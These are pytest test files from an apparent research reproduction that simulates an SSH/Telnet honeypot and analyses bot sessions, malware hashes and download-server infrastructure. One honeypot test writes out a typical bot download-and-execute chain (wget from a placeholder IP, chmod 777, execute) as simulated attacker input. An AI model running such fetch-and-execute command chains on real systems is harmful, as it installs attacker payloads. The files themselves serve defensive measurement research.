    def test_commands_executed_after_login(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "admin"),),
            command_lines=("uname -a", "nproc"),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == 2
        assert record.command_text.startswith("uname -a")

    def test_sessions_are_stateless(self, honeypot):
        write = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("echo probe > /tmp/marker",),
        )
        check = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("cat /tmp/marker",),
        )
        honeypot.handle(write, 0.0)
        record = honeypot.handle(check, 10.0)
        assert "No such file" in record.commands[0].output

    def test_session_ids_unique(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1")
        a = honeypot.handle(intent, 0.0)
        b = honeypot.handle(intent, 0.0)
        assert a.session_id != b.session_id

    def test_timeout_caps_duration(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", duration_s=10_000)
        record = honeypot.handle(intent, 0.0)
        assert record.timed_out
        assert record.duration_s == honeypot.timeout_s

    def test_line_cap(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=tuple(f"echo {i}" for i in range(500)),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == MAX_LINES_PER_SESSION

    def test_exit_ends_session_early(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=("echo one", "exit", "echo never"),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.commands) == 2

    def test_telnet_port(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", protocol=Protocol.TELNET)
        record = honeypot.handle(intent, 0.0)
        assert record.honeypot_port == 23
        assert record.ssh_version is None

    def test_download_and_exec_chain(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "a"),),
            command_lines=(
                "cd /tmp",
                "wget http://7.7.7.7/m -O m",
                "chmod 777 m",
                "./m",
            ),
            remote_files=(("http://7.7.7.7/m", b"MALWARE"),),
        )
        record = honeypot.handle(intent, 0.0)
        assert record.uris == ["http://7.7.7.7/m"]
        ops = [e.op for e in record.file_events]
        assert FileOp.CREATE in ops and FileOp.EXECUTE in ops
        assert record.transfer_hashes() == record.download_hashes()

    def test_bot_label_passthrough(self, honeypot):
        intent = ConnectionIntent(client_ip="1.1.1.1", bot_label="testbot")
        assert honeypot.handle(intent, 0.0).bot_label == "testbot"


class TestUriExtraction:
    def test_extracts_schemes(self):
        text = "wget http://a/1; curl https://b/2 ftp://c/3 tftp://d/4"
        assert extract_uris(text) == [
            "http://a/1", "https://b/2", "ftp://c/3", "tftp://d/4",
        ]

    def test_strips_trailing_punctuation(self):
        assert extract_uris("see http://a/x.") == ["http://a/x"]

    def test_no_uris(self):
        assert extract_uris("uname -a") == []

    def test_quotes_not_included(self):
        assert extract_uris("curl 'http://a/x'") == ["http://a/x"]
