"""Time-bucketing helpers."""

from __future__ import annotations

from collections import Counter
from datetime import date

from repro.analysis.monthly import (
    daily_box_stats,
    daily_counts,
    monthly_counts,
    monthly_groups,
    overall_shares,
    top_n_shares,
)
from repro.honeypot.session import Protocol, SessionRecord
from repro.util.timeutils import to_epoch


def session(when: date, second: float = 0.0, label: str = "a") -> SessionRecord:
    return SessionRecord(
        session_id=f"{when}-{second}-{label}",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=to_epoch(when, second),
        end=to_epoch(when, second) + 1,
        bot_label=label,
    )


class TestCounts:
    def test_monthly_counts(self):
        sessions = [session(date(2022, 1, 1)), session(date(2022, 1, 2)), session(date(2022, 2, 1))]
        assert monthly_counts(sessions) == {"2022-01": 2, "2022-02": 1}

    def test_daily_counts(self):
        sessions = [session(date(2022, 1, 1)), session(date(2022, 1, 1), 60)]
        assert daily_counts(sessions) == {date(2022, 1, 1): 2}

    def test_monthly_groups(self):
        sessions = [
            session(date(2022, 1, 1), label="x"),
            session(date(2022, 1, 2), label="x"),
            session(date(2022, 1, 3), label="y"),
        ]
        grouped = monthly_groups(sessions, lambda s: s.bot_label)
        assert grouped["2022-01"] == Counter({"x": 2, "y": 1})


class TestShares:
    def test_top_n(self):
        per_month = {"2022-01": Counter({"a": 8, "b": 2})}
        top = top_n_shares(per_month, 1)
        assert top["2022-01"] == [("a", 0.8)]

    def test_top_n_empty_month(self):
        assert top_n_shares({"m": Counter()}, 3)["m"] == []

    def test_overall_shares(self):
        per_month = {
            "2022-01": Counter({"a": 3}),
            "2022-02": Counter({"a": 1, "b": 4}),
        }
        shares = overall_shares(per_month)
        assert shares["a"] == 0.5
        assert shares["b"] == 0.5

    def test_overall_shares_empty(self):
        assert overall_shares({}) == {}


class TestBoxStats:
    def test_quantiles(self):
        sessions = []
        for day, count in ((1, 1), (2, 2), (3, 3), (4, 4), (5, 5)):
            for second in range(count):
                sessions.append(session(date(2022, 1, day), second))
        stats = daily_box_stats(sessions)["2022-01"]
        assert stats["min"] == 1
        assert stats["max"] == 5
        assert stats["median"] == 3
        assert stats["q1"] == 2
        assert stats["q3"] == 4
        assert stats["total"] == 15
        assert stats["days"] == 5

    def test_single_day(self):
        stats = daily_box_stats([session(date(2022, 1, 1))])["2022-01"]
        assert stats["min"] == stats["max"] == 1
