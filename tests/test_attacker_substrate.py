"""IP pools, malware factory, storage infrastructure."""

from __future__ import annotations

import random
from collections import Counter
from datetime import date

import pytest

from repro.attackers.infrastructure import HostArchetype, StorageInfrastructure
from repro.attackers.ippool import ClientIPPool, SharedPool
from repro.attackers.malware import MalwareFactory, MalwareFamily
from repro.config import DEFAULT_CONFIG
from repro.net.population import build_base_population
from repro.util.rng import RngTree


@pytest.fixture(scope="module")
def population():
    return build_base_population(RngTree(5).child("net"), 65)


class TestClientIPPool:
    def test_size_scales(self, population):
        pool = ClientIPPool("t", population, RngTree(5), 100_000, 1e-4)
        assert len(pool) == 10

    def test_floor(self, population):
        pool = ClientIPPool("t2", population, RngTree(5), 10, 1e-6)
        assert len(pool) == 4

    def test_ips_unique(self, population):
        pool = ClientIPPool("t3", population, RngTree(5), 500_000, 1e-4)
        assert len(set(pool.ips)) == len(pool)

    def test_deterministic(self, population):
        a = ClientIPPool("same", population, RngTree(5), 1000, 1e-2)
        b = ClientIPPool("same", population, RngTree(5), 1000, 1e-2)
        assert a.ips == b.ips

    def test_weighted_pick_has_heavy_hitters(self, population):
        pool = ClientIPPool("t4", population, RngTree(5), 2000, 1e-2)
        rng = random.Random(0)
        counts = Counter(pool.pick(rng) for _ in range(3000))
        top = counts.most_common(1)[0][1]
        assert top > 3000 / len(pool) * 2

    def test_sample_distinct(self, population):
        pool = ClientIPPool("t5", population, RngTree(5), 1000, 1e-2)
        sample = pool.sample(random.Random(0), 5)
        assert len(set(sample)) == 5


class TestSharedPool:
    def test_overlap_structure(self, population):
        base = ClientIPPool("base", population, RngTree(5), 5000, 1e-2)
        shared = SharedPool("shared", base, population, RngTree(5), overlap=0.9)
        base_ips = set(base.ips)
        shared_ips = set(shared.ips)
        assert base_ips <= shared_ips
        assert len(shared_ips) > len(base_ips)


class TestMalwareFactory:
    def factory(self):
        return MalwareFactory(RngTree(9))

    def test_base_sample_cached(self):
        factory = self.factory()
        a = factory.base_sample(MalwareFamily.MIRAI)
        b = factory.base_sample(MalwareFamily.MIRAI)
        assert a is b

    def test_strains_differ(self):
        factory = self.factory()
        a = factory.base_sample(MalwareFamily.MIRAI, "classic")
        b = factory.base_sample(MalwareFamily.MIRAI, "Corona")
        assert a.sha256 != b.sha256

    def test_variant_changes_hash(self):
        factory = self.factory()
        base = factory.base_sample(MalwareFamily.GAFGYT)
        assert base.variant(1).sha256 != base.sha256
        assert base.variant(1).sha256 != base.variant(2).sha256

    def test_weekly_rotation(self):
        factory = self.factory()
        day = date(2022, 3, 7).toordinal()
        same_week = factory.sample_for(MalwareFamily.MIRAI, "s", day)
        same_week2 = factory.sample_for(MalwareFamily.MIRAI, "s", day + 3)
        next_week = factory.sample_for(MalwareFamily.MIRAI, "s", day + 10)
        assert same_week.sha256 == same_week2.sha256
        assert same_week.sha256 != next_week.sha256

    def test_streams_independent(self):
        factory = self.factory()
        day = date(2022, 3, 7).toordinal()
        a = factory.sample_for(MalwareFamily.MIRAI, "stream-a", day)
        b = factory.sample_for(MalwareFamily.MIRAI, "stream-b", day)
        assert a.sha256 != b.sha256

    def test_catalogue_tracks_served(self):
        factory = self.factory()
        sample = factory.sample_for(MalwareFamily.DOFLOO, "s", 1)
        assert factory.catalogue[sample.sha256].family == MalwareFamily.DOFLOO

    def test_elf_vs_script_content(self):
        factory = self.factory()
        elf = factory.base_sample(MalwareFamily.MIRAI)
        script = factory.base_sample(MalwareFamily.COINMINER)
        assert elf.content.startswith(b"\x7fELF")
        assert script.content.startswith(b"#!/bin/sh")


class TestStorageInfrastructure:
    @pytest.fixture(scope="class")
    def infra(self, population):
        return StorageInfrastructure(DEFAULT_CONFIG, population, RngTree(5))

    def test_host_population(self, infra):
        assert infra.n_hosts > 500
        archetypes = {h.archetype for h in infra.hosts}
        assert archetypes == set(HostArchetype)

    def test_ips_unique(self, infra):
        ips = [h.ip for h in infra.hosts]
        assert len(set(ips)) == len(ips)

    def test_schedules_inside_window(self, infra):
        for host in infra.hosts:
            for start, end in host.intervals:
                assert start <= end
                assert DEFAULT_CONFIG.start <= start
                assert end <= DEFAULT_CONFIG.end

    def test_as_registered_before_first_use(self, infra):
        registry = {record.asn: record for record in infra.ases}
        for host in infra.hosts:
            assert registry[host.asn].registered < host.first_active

    def test_age_strata_present(self, infra):
        buckets = Counter()
        registry = {record.asn: record for record in infra.ases}
        for host in infra.hosts:
            age = (host.first_active - registry[host.asn].registered).days
            if age < 365:
                buckets["young"] += 1
            elif age < 5 * 365:
                buckets["mid"] += 1
            else:
                buckets["old"] += 1
        total = sum(buckets.values())
        assert 0.3 < buckets["young"] / total < 0.55
        assert buckets["old"] / total > 0.1

    def test_size_strata_present(self, infra):
        sizes = Counter()
        registry = {record.asn: record for record in infra.ases}
        for record in infra.ases:
            if record.num_slash24 == 1:
                sizes["one"] += 1
            elif record.num_slash24 < 50:
                sizes["small"] += 1
            else:
                sizes["large"] += 1
        total = sum(sizes.values())
        assert 0.12 < sizes["one"] / total < 0.32
        assert sizes["large"] / total > 0.3

    def test_pick_host_prefers_active(self, infra):
        rng = random.Random(0)
        day = date(2023, 5, 10)
        active_ips = {h.ip for h in infra.active_hosts(day)}
        picks = {infra.pick_host(rng, day).ip for _ in range(40)}
        assert picks <= active_ips or not active_ips

    def test_pick_host_never_fails(self, infra):
        rng = random.Random(0)
        host = infra.pick_host(rng, date(2021, 12, 1))
        assert host is not None

    def test_host_by_ip(self, infra):
        host = infra.hosts[0]
        assert infra.host_by_ip(host.ip) is host
        assert infra.host_by_ip("203.0.113.99") is None

    def test_ephemeral_hosts_single_day(self, infra):
        for host in infra.hosts:
            if host.archetype == HostArchetype.EPHEMERAL:
                assert all(start == end for start, end in host.intervals)

    def test_recurrent_hosts_have_long_gaps(self, infra):
        recurrent = [
            h for h in infra.hosts
            if h.archetype == HostArchetype.RECURRENT and len(h.intervals) > 1
        ]
        assert recurrent
        for host in recurrent[:10]:
            gaps = [
                (later[0] - earlier[1]).days
                for earlier, later in zip(host.intervals, host.intervals[1:])
            ]
            assert all(gap >= 120 for gap in gaps)
