"""Hierarchical-clustering baseline and the flow graph."""

from __future__ import annotations

from collections import Counter

import numpy as np
import pytest

from repro.analysis.hierarchical import hierarchical_cluster, pair_agreement
from repro.analysis.kmedoids import kmedoids
from repro.analysis.storage import flow_graph


def two_group_matrix(n_per_group: int = 6, gap: float = 1.0) -> np.ndarray:
    n = 2 * n_per_group
    matrix = np.full((n, n), gap)
    for start in (0, n_per_group):
        block = slice(start, start + n_per_group)
        matrix[block, block] = 0.05
    np.fill_diagonal(matrix, 0.0)
    return matrix


class TestHierarchical:
    def test_separates_two_groups(self):
        matrix = two_group_matrix()
        result = hierarchical_cluster(matrix, 2)
        assert len(set(result.labels[:6].tolist())) == 1
        assert result.labels[0] != result.labels[6]

    def test_agrees_with_kmedoids_on_clean_data(self):
        matrix = two_group_matrix(8)
        hier = hierarchical_cluster(matrix, 2)
        medo = kmedoids(matrix, 2, seed=0)
        assert pair_agreement(hier.labels, medo.labels) == 1.0

    def test_methods(self):
        matrix = two_group_matrix()
        for method in ("average", "complete", "single"):
            result = hierarchical_cluster(matrix, 2, method=method)
            assert result.k == 2

    def test_k_one(self):
        matrix = two_group_matrix(3)
        result = hierarchical_cluster(matrix, 1)
        assert set(result.labels.tolist()) == {0}

    def test_invalid_inputs(self):
        with pytest.raises(ValueError):
            hierarchical_cluster(np.zeros((2, 3)), 1)
        with pytest.raises(ValueError):
            hierarchical_cluster(two_group_matrix(2), 0)

    def test_medoids_are_members(self):
        matrix = two_group_matrix()
        result = hierarchical_cluster(matrix, 2)
        for cluster, medoid in enumerate(result.medoids):
            assert result.labels[medoid] == cluster

    def test_single_point(self):
        result = hierarchical_cluster(np.zeros((1, 1)), 1)
        assert result.labels.tolist() == [0]


class TestPairAgreement:
    def test_identical(self):
        labels = np.array([0, 0, 1, 1])
        assert pair_agreement(labels, labels) == 1.0

    def test_label_permutation_is_equivalent(self):
        a = np.array([0, 0, 1, 1])
        b = np.array([1, 1, 0, 0])
        assert pair_agreement(a, b) == 1.0

    def test_disagreement(self):
        a = np.array([0, 0, 1, 1])
        b = np.array([0, 1, 0, 1])
        assert pair_agreement(a, b) < 0.5

    def test_mismatched_lengths(self):
        with pytest.raises(ValueError):
            pair_agreement(np.array([0]), np.array([0, 1]))


class TestFlowGraph:
    def test_graph_structure(self):
        flows = Counter(
            {
                ("ISP/NSP", "Hosting", False): 10,
                ("ISP/NSP", "Hosting", True): 2,
                ("Hosting", "CDN", False): 3,
            }
        )
        graph = flow_graph(flows)
        assert graph["client:ISP/NSP"]["storage:Hosting"]["weight"] == 12
        assert graph["client:ISP/NSP"]["storage:Hosting"]["same_ip"] == 2
        assert graph.number_of_edges() == 2

    def test_bipartite(self):
        flows = Counter({("ISP/NSP", "Hosting", False): 1})
        graph = flow_graph(flows)
        assert all(node.startswith("client:") or node.startswith("storage:")
                   for node in graph.nodes)


class TestBaselineExperiment:
    def test_registered_and_runs(self, results):
        result = results["ext_baseline_clustering"]
        methods = [row[0] for row in result.rows]
        assert "k-medoids (paper)" in methods
        assert any(m.startswith("hierarchical/") for m in methods)
        agreement = float(
            " ".join(result.notes).split("hierarchical/average at k=")[1]
            .split(": ")[1].split(" ")[0]
        )
        assert agreement > 0.5
