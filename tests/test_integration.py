"""Cross-module invariants over the full simulated dataset."""

from __future__ import annotations

from collections import Counter


from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.regexrules import UNKNOWN_CATEGORY
from repro.analysis.statechange import StateClass, state_class
from repro.honeypot.session import FileOp


class TestHashConsistency:
    def test_every_executed_hash_was_loaded_in_session(self, dataset):
        """An EXECUTE event's hash must match a file created/modified
        earlier in the same session (sessions are stateless)."""
        for session in dataset.database.command_sessions():
            loaded = set()
            for event in session.file_events:
                if event.op in (FileOp.CREATE, FileOp.MODIFY) and event.sha256:
                    loaded.add(event.sha256)
                elif event.op == FileOp.EXECUTE:
                    assert (
                        event.sha256 in loaded
                        or event.path in (
                            "/bin/busybox",
                        )
                    ), f"executed unseen hash in {session.session_id}"

    def test_transfer_hashes_in_catalogue(self, dataset):
        catalogue = dataset.simulation.malware.catalogue
        for session in dataset.database.with_downloads():
            for digest in session.transfer_hashes():
                assert digest in catalogue

    def test_execute_missing_has_no_hash(self, dataset):
        for session in dataset.database.command_sessions():
            for event in session.file_events:
                if event.op == FileOp.EXECUTE_MISSING:
                    assert event.sha256 is None

    def test_mdrfckr_key_hash_recorded_and_labelled(self, dataset):
        from repro.experiments.dataset import MDRFCKR_KEY_FILE_HASH

        seen = dataset.database.unique_hashes()
        assert MDRFCKR_KEY_FILE_HASH in seen
        assert dataset.abuse.label(MDRFCKR_KEY_FILE_HASH) == "CoinMiner"


class TestGroundTruthAgreement:
    def test_classifier_vs_bot_labels(self, dataset):
        """Sessions from a bot named exactly like a category must be
        classified into that category (>99%)."""
        category_names = set(
            rule.name for rule in DEFAULT_CLASSIFIER.rules
        )
        agree = total = 0
        for session in dataset.database.command_sessions():
            label = (session.bot_label or "").split("#")[0]
            if label not in category_names:
                continue
            total += 1
            if DEFAULT_CLASSIFIER.classify(session) == label:
                agree += 1
        assert total > 0
        assert agree / total > 0.99

    def test_unknown_sessions_are_expected_kinds(self, dataset):
        odd = Counter()
        for session in dataset.database.command_sessions():
            if DEFAULT_CLASSIFIER.classify(session) == UNKNOWN_CATEGORY:
                odd[session.bot_label] += 1
        assert set(odd) <= {"direct_exec", "phil_scanner"}

    def test_state_split_shares_match_paper_shape(self, dataset):
        counts = Counter(
            state_class(s) for s in dataset.database.command_sessions()
        )
        total = sum(counts.values())
        non_state_share = counts[StateClass.NON_STATE] / total
        # paper: 94M / 163M ≈ 58% non-state
        assert 0.4 < non_state_share < 0.75
        assert counts[StateClass.STATE_NO_EXEC] > counts[StateClass.STATE_EXEC]


class TestCurlProxy:
    def test_proxy_sessions_keep_no_artifacts(self, dataset):
        sessions = [
            s
            for s in dataset.database.command_sessions()
            if DEFAULT_CLASSIFIER.classify(s) == "curl_maxred"
        ]
        assert sessions
        for session in sessions:
            assert session.transfer_hashes() == []
            assert len(session.uris) >= 50


class TestVolumes:
    def test_scaled_session_count_near_paper(self, dataset):
        from repro.config import PAPER

        measured = len(dataset.database.ssh_sessions())
        expected = PAPER.ssh_sessions * dataset.config.scale
        assert 0.6 * expected < measured < 1.6 * expected

    def test_hash_universe_scales(self, dataset):
        # paper: 16,257 unique hashes at full scale; at tiny scale the
        # variant machinery must still produce a diverse universe
        assert len(dataset.database.unique_hashes()) > 50

    def test_file_sessions_subset_of_downloads(self, dataset):
        file_sessions = {s.session_id for s in dataset.file_sessions()}
        command_sessions = {
            s.session_id for s in dataset.database.command_sessions()
        }
        assert file_sessions <= command_sessions
        # mdrfckr key installs are excluded from payload loads
        from repro.analysis.mdrfckr_case import mdrfckr_sessions

        mdr = {
            s.session_id
            for s in mdrfckr_sessions(dataset.database.command_sessions())
        }
        assert not (file_sessions & mdr)
