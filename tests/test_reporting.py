"""Markdown/report rendering and the experiment runner CLI surface."""

from __future__ import annotations

import pytest

from repro.experiments.base import ExperimentResult
from repro.reporting.markdown import (
    PAPER_EXPECTATIONS,
    experiments_markdown,
    result_to_markdown,
)


@pytest.fixture
def sample_result():
    return ExperimentResult(
        experiment_id="fig01",
        title="Sample",
        headers=["month", "value"],
        rows=[["2022-01", 5], ["2022-02", 7]],
        notes=["a note"],
    )


class TestResultMarkdown:
    def test_contains_sections(self, sample_result):
        text = result_to_markdown(sample_result)
        assert "### fig01" in text
        assert "**Paper:**" in text
        assert "- a note" in text
        assert "| month | value |" in text

    def test_row_truncation(self, sample_result):
        sample_result.rows = [["m", i] for i in range(30)]
        text = result_to_markdown(sample_result, max_rows=5)
        assert "(25 more rows)" in text

    def test_unknown_experiment_has_no_paper_line(self):
        result = ExperimentResult("zzz", "t", ["a"], [["1"]], ["n"])
        assert "**Paper:**" not in result_to_markdown(result)


class TestExpectations:
    def test_every_registered_experiment_has_expectation(self):
        from repro.experiments.base import REGISTRY
        from repro.experiments.runner import load_all_experiments

        load_all_experiments()
        missing = set(REGISTRY) - set(PAPER_EXPECTATIONS)
        assert not missing


class TestDocument:
    def test_full_document(self, results, dataset):
        text = experiments_markdown(results, dataset.config)
        assert text.startswith("# EXPERIMENTS")
        for eid in results:
            assert f"### {eid}" in text
        assert f"scale={dataset.config.scale}" in text


class TestRender:
    def test_experiment_result_render(self, sample_result):
        text = sample_result.render()
        assert "fig01" in text and "note: a note" in text

    def test_render_without_rows(self):
        result = ExperimentResult("x", "t", [], [], ["only notes"])
        assert "only notes" in result.render()

    def test_extra_text(self):
        result = ExperimentResult("x", "t", [], [], [], extra_text="BODY")
        assert "BODY" in result.render()


class TestRegistryGuards:
    def test_register_requires_id(self):
        from repro.experiments.base import Experiment, register

        class Nameless(Experiment):
            experiment_id = ""

        with pytest.raises(ValueError):
            register(Nameless)

    def test_register_rejects_duplicates(self):
        from repro.experiments.base import Experiment, register
        from repro.experiments.runner import load_all_experiments

        load_all_experiments()

        class Duplicate(Experiment):
            experiment_id = "fig01"

        with pytest.raises(ValueError):
            register(Duplicate)
