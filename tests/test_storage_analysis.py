"""Storage-location analyses on crafted observations."""

from __future__ import annotations

from datetime import date


from repro.analysis.storage import (
    DownloadObservation,
    activity_days_by_ip,
    age_bucket,
    download_observations,
    duration_class,
    infrastructure_observations,
    reappearance_after,
    recall_distribution,
    same_ip_fraction,
    size_bucket_name,
    uri_host,
)
from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.util.timeutils import to_epoch


def obs(ip: str, day: date, client: str = "9.9.9.9") -> DownloadObservation:
    return DownloadObservation(
        session_id=f"{ip}-{day}",
        day=day,
        client_ip=client,
        storage_ip=ip,
        hashes=("h",),
    )


class TestUriHost:
    def test_http(self):
        assert uri_host("http://1.2.3.4/f") == "1.2.3.4"

    def test_port_stripped(self):
        assert uri_host("http://1.2.3.4:8080/f") == "1.2.3.4"

    def test_tftp(self):
        assert uri_host("tftp://5.6.7.8/f") == "5.6.7.8"

    def test_not_a_uri(self):
        assert uri_host("wget something") is None


class TestObservations:
    def make_session(self, uris, transfer_hash=None):
        events = []
        if transfer_hash:
            events.append(
                FileEvent("/tmp/f", FileOp.CREATE, transfer_hash, source="transfer")
            )
        return SessionRecord(
            session_id="s1",
            honeypot_id="hp",
            honeypot_ip="192.0.2.1",
            honeypot_port=22,
            protocol=Protocol.SSH,
            client_ip="9.9.9.9",
            client_port=1,
            start=to_epoch(date(2022, 5, 1)),
            end=to_epoch(date(2022, 5, 1)) + 5,
            logins=[LoginAttempt("root", "x", True)],
            commands=[CommandRecord("wget ...", True)],
            uris=list(uris),
        )

    def test_failed_download_still_observed(self):
        session = self.make_session(["http://1.2.3.4/f"])
        observations = download_observations([session])
        assert len(observations) == 1
        assert observations[0].hashes == ()

    def test_domain_hosts_ignored(self):
        session = self.make_session(["https://shop.ru.invalid/"])
        assert download_observations([session]) == []

    def test_distinct_hosts_one_each(self):
        session = self.make_session(
            ["http://1.2.3.4/f", "tftp://1.2.3.4/f", "http://5.6.7.8/g"]
        )
        observations = download_observations([session])
        assert {o.storage_ip for o in observations} == {"1.2.3.4", "5.6.7.8"}
        assert len(observations) == 2

    def test_infrastructure_filter_drops_self_host(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1), client="1.1.1.1"),
            obs("2.2.2.2", date(2022, 1, 1)),
        ]
        kept = infrastructure_observations(observations)
        assert [o.storage_ip for o in kept] == ["2.2.2.2"]

    def test_same_ip_fraction(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1), client="1.1.1.1"),
            obs("2.2.2.2", date(2022, 1, 1)),
        ]
        assert same_ip_fraction(observations) == 0.5
        assert same_ip_fraction([]) == 0.0


class TestBuckets:
    def test_age_buckets(self):
        assert age_bucket(0.5) == "AS younger than 1 year"
        assert age_bucket(3.0) == "AS younger than 5 years"
        assert age_bucket(10.0) == "AS older than 5 years"

    def test_size_buckets(self):
        assert size_bucket_name(1) == "AS ann. only one /24"
        assert size_bucket_name(49) == "AS ann. less than 50 /24"
        assert size_bucket_name(50) == "AS ann. more than 50 /24"

    def test_duration_classes(self):
        assert duration_class(0.5) == "<1d"
        assert duration_class(3) == "<4d"
        assert duration_class(6) == "<1w"
        assert duration_class(400) == ">=1y"


class TestActivityAndRecall:
    def test_activity_days(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1)),
            obs("1.1.1.1", date(2022, 1, 3)),
            obs("1.1.1.1", date(2022, 1, 1)),
        ]
        days = activity_days_by_ip(observations)
        assert days["1.1.1.1"] == [date(2022, 1, 1), date(2022, 1, 3)]

    def test_single_day_ip_classified_subday(self):
        observations = [obs("1.1.1.1", date(2022, 1, 5))]
        distribution = recall_distribution(observations, 7)
        assert distribution["2022-01"]["<1d"] == 1

    def test_week_spanning_ip(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1)),
            obs("1.1.1.1", date(2022, 1, 6)),
        ]
        distribution = recall_distribution(observations, 7)
        assert distribution["2022-01"]["<1w"] == 1

    def test_recall_window_truncates_history(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1)),
            obs("1.1.1.1", date(2022, 3, 10)),
        ]
        short = recall_distribution(observations, 7)
        # in March, with 1-week recall, only the March appearance counts
        assert short["2022-03"]["<1d"] == 1
        full = recall_distribution(observations, float("inf"))
        assert full["2022-03"]["<16w"] == 1

    def test_reappearance_after(self):
        observations = [
            obs("1.1.1.1", date(2022, 1, 1)),
            obs("1.1.1.1", date(2022, 9, 1)),
            obs("2.2.2.2", date(2022, 1, 1)),
            obs("2.2.2.2", date(2022, 1, 20)),
        ]
        assert reappearance_after(observations, 180) == 0.5
        assert reappearance_after([], 180) == 0.0


class TestEndToEnd:
    def test_dataset_observations_sane(self, dataset):
        observations = download_observations(
            dataset.database.command_sessions()
        )
        assert observations
        infra_ips = {h.ip for h in dataset.simulation.infrastructure.hosts}
        clients = {o.client_ip for o in observations}
        for o in infrastructure_observations(observations):
            assert o.storage_ip in infra_ips
        # one-order-of-magnitude shape: more download clients than
        # dedicated storage IPs is not required at tiny scale, but both
        # populations must be non-trivial
        assert len(clients) >= 10
