"""SVG figure rendering."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import numpy as np
import pytest

from repro.experiments.base import ExperimentResult
from repro.reporting.svg import (
    render_svg,
    svg_bar_chart,
    svg_heatmap,
    svg_multi_line_chart,
)


@pytest.fixture
def monthly_result():
    return ExperimentResult(
        experiment_id="fig01",
        title="Sample",
        headers=["month", "a", "b"],
        rows=[["2022-01", 10, 1], ["2022-02", 20, 2], ["2022-03", 5, 3]],
        notes=[],
    )


def parse(svg_text: str) -> ET.Element:
    return ET.fromstring(svg_text)


class TestBarChart:
    def test_well_formed(self, monthly_result):
        root = parse(svg_bar_chart(monthly_result))
        assert root.tag.endswith("svg")

    def test_one_bar_per_row(self, monthly_result):
        root = parse(svg_bar_chart(monthly_result))
        bars = [
            el for el in root.iter()
            if el.tag.endswith("rect") and el.find("{http://www.w3.org/2000/svg}title") is not None
        ]
        assert len(bars) == 3

    def test_tallest_bar_is_max_value(self, monthly_result):
        root = parse(svg_bar_chart(monthly_result, value_column=1))
        bars = [
            el for el in root.iter()
            if el.tag.endswith("rect") and el.find("{http://www.w3.org/2000/svg}title") is not None
        ]
        heights = [float(b.get("height")) for b in bars]
        assert max(heights) == heights[1]  # the value-20 row

    def test_title_escaped(self):
        result = ExperimentResult(
            "x", "a <b> & c", ["l", "v"], [["m", 1]], []
        )
        parse(svg_bar_chart(result))  # must not raise

    def test_no_numeric_raises(self):
        result = ExperimentResult("x", "t", ["l"], [["only"]], [])
        with pytest.raises(ValueError):
            svg_bar_chart(result)


class TestMultiLine:
    def test_one_polyline_per_series(self, monthly_result):
        root = parse(svg_multi_line_chart(monthly_result))
        polylines = [el for el in root.iter() if el.tag.endswith("polyline")]
        assert len(polylines) == 2

    def test_points_count(self, monthly_result):
        root = parse(svg_multi_line_chart(monthly_result))
        polyline = next(el for el in root.iter() if el.tag.endswith("polyline"))
        assert len(polyline.get("points").split()) == 3


class TestHeatmap:
    def test_cells(self):
        matrix = np.array([[0.0, 0.5], [0.5, 0.0]])
        root = parse(svg_heatmap(matrix))
        rects = [el for el in root.iter() if el.tag.endswith("rect")]
        # background + 4 cells
        assert len(rects) == 5

    def test_downsamples(self):
        matrix = np.random.default_rng(0).random((300, 300))
        text = svg_heatmap(matrix, max_cells=50)
        root = parse(text)
        rects = [el for el in root.iter() if el.tag.endswith("rect")]
        assert len(rects) == 50 * 50 + 1

    def test_empty_raises(self):
        with pytest.raises(ValueError):
            svg_heatmap(np.zeros((0, 0)))


class TestRenderSvg:
    def test_default_bar(self, monthly_result):
        assert render_svg(monthly_result) is not None

    def test_fig10_gets_lines(self):
        result = ExperimentResult(
            "fig10", "t", ["month", "p1", "p2"],
            [["2023-01", 1, 2], ["2023-02", 3, 4]], [],
        )
        assert "polyline" in render_svg(result)

    def test_non_numeric_none(self):
        result = ExperimentResult("x", "t", ["l"], [["text"]], [])
        assert render_svg(result) is None

    def test_all_experiments_export(self, results, tmp_path):
        exported = 0
        for result in results.values():
            document = render_svg(result)
            if document is None:
                continue
            parse(document)
            exported += 1
        assert exported >= 10
