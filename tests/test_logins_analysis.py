"""Login/password analyses (Figures 10 and 11)."""

from __future__ import annotations

from datetime import date

from repro.analysis.logins import (
    FIGURE10_PASSWORDS,
    default_account_stats,
    monthly_password_counts,
    sessions_with_password,
    successful_login_password,
    top_passwords,
)
from repro.honeypot.session import (
    CommandRecord,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.util.timeutils import to_epoch


def session(
    attempts,
    when=date(2023, 1, 10),
    commands=(),
    client_ip="1.1.1.1",
) -> SessionRecord:
    return SessionRecord(
        session_id=f"s-{client_ip}-{when}-{len(attempts)}-{len(commands)}",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip=client_ip,
        client_port=1,
        start=to_epoch(when),
        end=to_epoch(when) + 1,
        logins=list(attempts),
        commands=[CommandRecord(raw=c, known=True) for c in commands],
    )


